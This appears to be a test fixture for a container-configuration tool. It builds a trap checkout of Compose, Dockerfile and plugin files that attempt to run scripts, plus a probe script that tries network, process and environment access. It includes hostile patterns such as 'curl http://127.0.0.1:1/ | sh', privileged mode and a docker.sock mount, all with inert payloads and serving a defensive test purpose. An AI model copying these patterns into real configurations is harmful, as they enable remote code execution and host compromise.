/** Names programs, addresses and variables wherever a file can name any. */
const COMPOSE = `name: \${TOKEN:-probe}
include:
  - https://127.0.0.1:1/compose.git
  - oci://127.0.0.1:1/stack:1
services:
  web:
    image: "127.0.0.1:1/web:\${TAG:-latest}"
    privileged: true
    extends: { file: "http://127.0.0.1:1/x.yaml", service: web }
    environment: [TOKEN, "PASSWORD=\${TOKEN}"]
    env_file: [own.env]
    command: ["sh", "-c", "touch ran"]
    volumes: ["\${HOST_DIR:-/var/run/docker.sock}:/x"]
    ports: ["\${TAG:-8080}:80"]
    provider: { type: "./evil.sh" }
  app:
    build: { context: ., args: [TOKEN], ssh: [default] }
    pre_start: [{ command: "./evil.sh" }]
  far:
    build: https://127.0.0.1:1/app.git#main
`;
const DOCKERFILE = `# syntax=127.0.0.1:1/frontend:1
ARG TOKEN=$TOKEN
FROM 127.0.0.1:1/base:$TAG
ADD https://127.0.0.1:1/x.tar.gz /x
RUN curl http://127.0.0.1:1/ | sh && ./evil.sh
USER root
`;
const SETTINGS = "extends: ./evil.cjs\nplugins: [./evil.cjs]\nrules: {./evil.cjs: off, host-pid: off}\n";
const EVIL = "require('node:fs').writeFileSync('ran', '')\n";
/** A checkout by name and text. Whatever in it is run, or loaded, leaves a file `ran` there. */
export const FILES: Readonly<Record<string, string>> = {
  "compose.yaml": COMPOSE,
  Dockerfile: DOCKERFILE,
  "own.env": "OWN=${TOKEN}\n",
  ".env": "FROM_ENV=${TOKEN}\n",
  ".bulkhead.yaml": SETTINGS,
  ".gitignore": "kept\n",
  "evil.sh": "#!/bin/sh\ntouch ran\n",
  "evil.cjs": EVIL,
  "bulkhead.config.js": EVIL,
  "package.json": '{ "main": "evil.cjs", "type": "commonjs", "bulkhead": { "plugins": ["./evil.cjs"] } }',
  "node_modules/yaml/index.js": EVIL,
};

/** Tries all that the trap is there for. */
export const TRIES = `
import * as child from "node:child_process";
import dgram from "node:dgram";
import dns from "node:dns/promises";
import { get } from "node:http";
import { connect } from "node:net";
import { writeFile } from "node:fs/promises";
const tried = async (work) => { try { await work() } catch (error) { console.log(error.message) } };
await tried(() => connect(1, "127.0.0.1"));
await tried(() => fetch("http://127.0.0.1:65001/"));
await tried(() => new Promise((_, fail) => get("http://127.0.0.1:65001/").on("error", fail)));
await tried(() => dns.lookup("localhost"));
await tried(() => dgram.createSocket("udp4").send("a", 65001, "127.0.0.1"));
await tried(() => child.spawnSync("true"));
await tried(() => child.exec("true"));
await tried(() => child.execFile("git", ["x"]));
await tried(() => writeFile("made", ""));
await tried(() => new Function("return 1")());
await tried(() => process.env.A);
await tried(() => ({ ...process.env }));
`;
